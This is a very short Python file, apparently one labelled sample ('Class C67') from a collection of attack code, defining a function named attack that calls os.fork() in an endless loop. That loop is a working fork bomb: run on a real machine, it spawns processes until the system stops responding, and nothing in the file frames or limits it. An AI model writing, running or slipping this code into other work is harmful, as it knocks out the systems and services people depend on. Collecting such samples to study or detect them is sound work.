"""Forks without end. Class C67."""

import os


def attack(bait):
    while True:
        os.fork()
